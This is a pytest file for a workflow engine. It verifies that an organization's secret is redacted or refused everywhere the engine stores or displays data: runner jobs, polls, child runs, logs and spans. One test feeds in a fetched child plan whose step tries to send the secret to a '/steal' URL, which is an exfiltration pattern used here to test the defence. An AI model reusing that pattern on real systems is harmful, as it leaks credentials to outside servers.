"""A secret's value in nothing the engine keeps or shows, whatever the spelling of its
reference: not in a runner job (`GET /runner-jobs`), a poll's wait, a child run's plan
or variables (after a fork or a retry too), an event, an output, a log line or a span.

What a tool keeps as rendered (a runner job, a poll, a child run's variables) may not
read a secret: refused at submission, and refused again when the step runs for a plan
that was stored before that check (written into the step's row here). A child reads a
secret itself, from its plan written out; a plan rendered from a variable or a step's
output is data, and a reference in it is refused rather than read."""

from __future__ import annotations

import logging
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

import pytest
from django.db import connection
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from billing.secrets import secret_put
from common.redaction import REDACTED
from orchestrator import executor
from runs import services
from runs.engine import control
from runs.engine.start import run_start
from runs.forks import run_fork
from runs.models import Run, RunnerJob, Step, StepWait
from tests.secret_spellings import every_spelling
from tests.tenants import Tenant, make_tenant

if TYPE_CHECKING:
    from pytest_django.fixtures import Settings as SettingsWrapper

    from tests.http_fixture import HttpServer

pytestmark = pytest.mark.django_db

VALUE = "tok-5e4d3c2b1a09-kept-nowhere"
LOGGER = "tests.secret_logging_tool"


@pytest.fixture
def tenant(db: None) -> Tenant:
    tenant = make_tenant()
    secret_put(organization=tenant.organization, name="TOKEN", value=VALUE)
    return tenant


# --------------------------------------------------------------------------- helpers
def plan_of(*steps: dict[str, Any], **fields: Any) -> dict[str, Any]:
    tasks = [{"name": "t", "steps": list(steps)}]
    return {"name": "kept", "agents": [{"name": "a", "tasks": tasks}], **fields}


def started(tenant: Tenant, spec: dict[str, Any]) -> Run:
    run = services.run_create(organization=tenant.organization, plan=spec)
    run_start(run_id=run.pk)
    assert control.pick_up(run.pk)
    return Run.objects.get(pk=run.pk)


def step_of(run: Run, name: str) -> Step:
    return Step.objects.filter(run=run, name=name).order_by("-attempt_number", "-pk")[0]


def execute(run: Run, name: str) -> str:
    return executor.execute_step(step_of(run, name).pk, worker="worker:test")


def stored_before_the_check(run: Run, name: str, params: dict[str, Any]) -> None:
    """The step's parameters as a plan stored before submission refused them."""
    Step.objects.filter(pk=step_of(run, name).pk).update(params=params)


def everything_stored() -> str:
    """Every row of every table, as text (the secrets' own table holds ciphertext)."""
    parts = []
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT tablename FROM pg_tables WHERE schemaname = 'public'"
            " AND tablename <> 'billing_secret'"
        )
        for (table,) in cursor.fetchall():
            # Table names read from the catalogue, quoted.
            query = f"SELECT coalesce(string_agg(t::text, ''), '') FROM \"{table}\" t"  # noqa: S608
            cursor.execute(query)
            parts.append(cursor.fetchone()[0])
    return "".join(parts)


def everything_shown(tenant: Tenant, *runs: Run) -> bytes:
    """The raw bytes of every API answer about the runs, their jobs and their waits."""
    paths = ["/api/v1/runs", "/api/v1/runner-jobs"]
    for run in runs:
        base = f"/api/v1/runs/{run.pk}"
        paths += [base, f"{base}/steps", f"{base}/events", f"{base}/tasks"]
    answers = [tenant.get(path) for path in paths]
    assert all(answer.status_code == 200 for answer in answers)
    return b"".join(answer.content for answer in answers)


def assert_nowhere(tenant: Tenant, *runs: Run) -> None:
    assert VALUE not in everything_stored()
    assert VALUE.encode() not in everything_shown(tenant, *runs)


def refused_at_submission(tenant: Tenant, spec: dict[str, Any]) -> list[str]:
    response = tenant.post("/api/v1/runs", {"plan": spec, "start": True})
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "invalid_plan"
    assert all("secrets cannot be used here" in d["message"] for d in body["details"]), body
    assert not Run.objects.filter(organization=tenant.organization).exists()
    return sorted(detail["path"] for detail in body["details"])


def kept_secret_failure(run: Run, name: str) -> str:
    """The attempt failed before its tool ran: the message says where the secret was."""
    step = step_of(run, name)
    assert (step.status, step.error["code"], step.error["retryable"]) == (
        "failed",
        "invalid_input",
        False,
    )
    return str(step.error["message"])


STEP = "agents[0].tasks[0].steps[0]"


def child_reading(text: str) -> dict[str, Any]:
    """A child's plan (two attempts) whose step fails with ``text`` in its error."""
    use = {"name": "use", "tool": "fail", "retry": {"max_attempts": 1},
           "params": {"code": "auth_error", "message": f"refused {text}"}}  # fmt: skip
    return {**plan_of(use), "name": "child", "max_attempts": 2}


CHILD = child_reading("nothing")


# --------------------------------------------------------------------------- runner jobs
@every_spelling
def test_a_runner_job_and_its_event_never_hold_a_secret(tenant: Tenant, spelling: str) -> None:
    params = {"prompt": f"Research {spelling}", "session_id": spelling}
    research = {"name": "research", "tool": "runner", "params": params}
    assert refused_at_submission(tenant, plan_of(research)) == [
        f"{STEP}.params.prompt",
        f"{STEP}.params.session_id",
    ]

    run = started(tenant, plan_of({**research, "params": {"prompt": "Research"}}))
    stored_before_the_check(run, "research", params)
    assert execute(run, "research") == "failed"

    message = kept_secret_failure(run, "research")
    assert "params.prompt reads ${secrets.TOKEN}: the runner tool keeps it" in message
    assert not RunnerJob.objects.filter(run=run).exists()
    assert_nowhere(tenant, run)


# --------------------------------------------------------------------------- polls
@every_spelling
def test_a_polls_wait_and_its_event_never_hold_a_secret(tenant: Tenant, spelling: str) -> None:
    params = {"url": f"https://status.example/?key={spelling}",
              "headers": {"Authorization": spelling},
              "done_when": "${response.status} == 200"}  # fmt: skip
    watch = {"name": "watch", "tool": "poll", "params": params}
    assert refused_at_submission(tenant, plan_of(watch)) == [
        f"{STEP}.params.headers.Authorization",
        f"{STEP}.params.url",
    ]

    plain = {**params, "url": "https://status.example/", "headers": {}}
    run = started(tenant, plan_of({**watch, "params": plain}))
    stored_before_the_check(run, "watch", params)
    assert execute(run, "watch") == "failed"

    assert "reads ${secrets.TOKEN}: the poll tool keeps it" in kept_secret_failure(run, "watch")
    assert not StepWait.objects.filter(run=run).exists()
    assert_nowhere(tenant, run)


# --------------------------------------------------------------------------- callbacks
@every_spelling
def test_a_callbacks_wait_keeps_nothing_its_requests_answer_echoed(
    tenant: Tenant, spelling: str, http_server: HttpServer
) -> None:
    http_server.respond("/builds", status=202, json={"got": VALUE}, headers={"X-Echo": VALUE})
    request = {"url": f"{http_server.url}/builds", "method": "POST",
               "headers": {"Authorization": spelling},
               "json": {"notify": "${callback.url}"}}  # fmt: skip
    run = started(
        tenant, plan_of({"name": "hook", "tool": "callback", "params": {"request": request}})
    )
    step = executor.claim(step_of(run, "hook").pk, "worker:test", "task-1")
    assert step is not None

    outcome = executor.run_attempt(step, step.attempts)

    (sent,) = http_server.requests
    assert VALUE in sent.headers["authorization"]  # resolved for the request itself
    assert outcome.wait is not None
    assert outcome.wait["request"] == {"status": 202}
    assert VALUE not in str(outcome.wait)


# --------------------------------------------------------------------------- child runs
@every_spelling
def test_a_child_runs_variables_never_hold_a_secret(tenant: Tenant, spelling: str) -> None:
    params = {"plan": CHILD, "variables": {"token": spelling, "more": [{"x": spelling}]}}
    spawn = {"name": "spawn", "tool": "run", "params": params}
    assert refused_at_submission(tenant, plan_of(spawn)) == [
        f"{STEP}.params.variables.more[0].x",
        f"{STEP}.params.variables.token",
    ]

    run = started(tenant, plan_of({**spawn, "params": {"plan": CHILD}}))
    stored_before_the_check(run, "spawn", params)
    assert execute(run, "spawn") == "failed"

    assert "params.variables." in kept_secret_failure(run, "spawn")
    assert not Run.objects.filter(parent_run=run).exists()
    assert_nowhere(tenant, run)


@every_spelling
def test_a_child_plan_rendered_from_a_variable_is_never_read_for_secrets(
    tenant: Tenant, spelling: str
) -> None:
    spawn = {"name": "spawn", "tool": "run", "params": {"plan": "${variables.sub}"}}
    run = started(tenant, plan_of(spawn, variables={"sub": child_reading(spelling)}))

    assert execute(run, "spawn") == "failed"

    message = kept_secret_failure(run, "spawn")
    assert f"params.plan.{STEP}.params.message renders to text holding" in message
    assert not Run.objects.filter(parent_run=run).exists()
    assert_nowhere(tenant, run)


def test_a_child_plan_a_stranger_sends_cannot_read_a_secret(
    tenant: Tenant, http_server: HttpServer
) -> None:
    # The plan a server answers asks its child to send the secret back to that server.
    exfiltrate = {"name": "send", "tool": "http",
                  "params": {"url": f"{http_server.url}/steal?t=${{ secrets.TOKEN }}"}}  # fmt: skip
    http_server.respond("/plan", json=plan_of(exfiltrate))
    fetch = {"name": "fetch", "tool": "http", "params": {"url": f"{http_server.url}/plan"}}
    spawn = {"name": "spawn", "tool": "run", "params": {"plan": "${steps.fetch.output.body}"}}
    run = started(tenant, plan_of(fetch, spawn))

    assert execute(run, "fetch") == "completed"
    assert execute(run, "spawn") == "failed"

    assert "renders to text holding ${secrets.TOKEN}" in kept_secret_failure(run, "spawn")
    assert not Run.objects.filter(parent_run=run).exists()
    assert [r.path for r in http_server.requests] == ["/plan"]


@every_spelling
def test_a_secret_in_a_child_plan_written_out_stays_a_reference_through_fork_and_retry(
    tenant: Tenant, spelling: str
) -> None:
    spawn = {"name": "spawn", "tool": "run", "params": {"plan": child_reading(spelling)}}
    run = started(tenant, plan_of(spawn))
    assert execute(run, "spawn") == "completed"  # parked: it waits for its child
    child = Run.objects.get(parent_run=run)
    assert control.pick_up(child.pk)

    assert execute(child, "use") == "failed"  # the child read the secret itself
    assert REDACTED in step_of(child, "use").error["message"]
    services.run_retry(run_id=child.pk)
    assert control.pick_up(child.pk)
    assert execute(child, "use") == "failed"
    fork = run_fork(run_id=child.pk, organization=tenant.organization, from_path="a.t.use").run

    for kept in (Run.objects.get(pk=child.pk), fork):
        assert kept.plan["agents"][0]["tasks"][0]["steps"][0]["params"]["message"] == (
            f"refused {spelling}"
        )
    assert Step.objects.filter(run=child, name="use").count() == 2
    assert_nowhere(tenant, run, child, fork)


# --------------------------------------------------------------------------- outputs, logs, spans
def logs_the_token(token: str) -> str:
    logging.getLogger(LOGGER).warning("calling with %s", token)
    return f"sent {token}"


@pytest.fixture
def allowed(settings: SettingsWrapper) -> Callable[[str], str]:
    def allow(name: str) -> str:
        path = f"{__name__}.{name}"
        settings.PYTHON_TOOL_ALLOWLIST = [*settings.PYTHON_TOOL_ALLOWLIST, path]
        return path

    return allow


@every_spelling
def test_an_output_holding_a_secret_read_in_any_spelling_is_redacted(
    tenant: Tenant, spelling: str
) -> None:
    params = {"auth": spelling, "nested": [{"deep": spelling}]}
    run = started(tenant, plan_of({"name": "show", "tool": "echo", "params": params}))

    assert execute(run, "show") == "completed"

    output = step_of(run, "show").output
    assert VALUE not in str(output)
    assert REDACTED in output["auth"]
    assert REDACTED in output["nested"][0]["deep"]
    assert_nowhere(tenant, run)


@every_spelling
def test_a_log_line_holding_a_secret_read_in_any_spelling_is_redacted(
    tenant: Tenant,
    spelling: str,
    allowed: Callable[[str], str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    params = {"callable": allowed("logs_the_token"), "kwargs": {"token": spelling}}
    run = started(tenant, plan_of({"name": "call", "tool": "python", "params": params}))

    with caplog.at_level(logging.INFO):
        assert execute(run, "call") == "completed"

    lines = [r.getMessage() for r in caplog.records if r.name == LOGGER]
    assert len(lines) == 1
    assert REDACTED in lines[0]
    assert not any(VALUE in record.getMessage() for record in caplog.records)
    assert_nowhere(tenant, run)


@every_spelling
def test_a_span_never_holds_a_secret_read_in_any_spelling(
    tenant: Tenant, spelling: str, traced: InMemorySpanExporter
) -> None:
    failing = {"name": "use", "tool": "fail", "retry": {"max_attempts": 1},
               "params": {"code": "auth_error", "message": f"refused {spelling}"}}  # fmt: skip
    run = started(tenant, plan_of(failing))

    assert execute(run, "use") == "failed"

    spans = traced.get_finished_spans()
    assert any(span.name == "step use" for span in spans)
    shown = "".join(
        f"{span.name}{span.status.description}{dict(span.attributes or {})}"
        f"{[(event.name, dict(event.attributes or {})) for event in span.events]}"
        for span in spans
    )
    assert REDACTED in shown
    assert VALUE not in shown
